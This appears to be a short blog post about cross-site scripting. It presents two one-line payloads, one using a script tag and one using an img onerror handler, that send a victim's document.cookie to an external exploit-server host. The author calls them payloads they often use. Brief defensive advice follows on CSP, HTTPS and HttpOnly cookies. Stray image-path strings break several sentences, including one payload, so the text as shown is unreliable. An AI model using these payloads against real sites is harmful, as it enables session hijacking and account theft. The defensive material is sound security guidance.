XSS - Script to steel cookies

A couple of XSS payloads I frequently use.

Example 1.- One Liner using script tag

<script>var i=newImage;i.src="https://exploit-0ac0001704ff51e6c0466e7d01db00fd.exploit-server.net/exploit?cookie=?"+document.cookie;</script>

Example 2.- One-Liner using <img> tag

<img src=x onerror=this.src='https://exploit-0ac0001704ff51e6c0466e7d01db00fd.exploit-server.net/exploit?cookie='+document.cookie;>

How to protect your cookies?

  • Implement Content Security Policy(CSP), examples
    Allow all scripts fromonly the origin website
    Content-Security-Policy: script-src 'self'

    Allow all scripts from the origin and trusted-domain.com (your domain) domain

    Content-Security-Policy: script-src 'self' https://trsuted-domain.com
  • Always use HTTPs, this will help to protect your users against man in the middle attacs
  • Use HttpOnly in your cookies. An HttpOnly cookie is not available toscripting languages like JavaScript.

More info https://developer.mozilla.org/en-US/docs/Web/HTTP/Cookies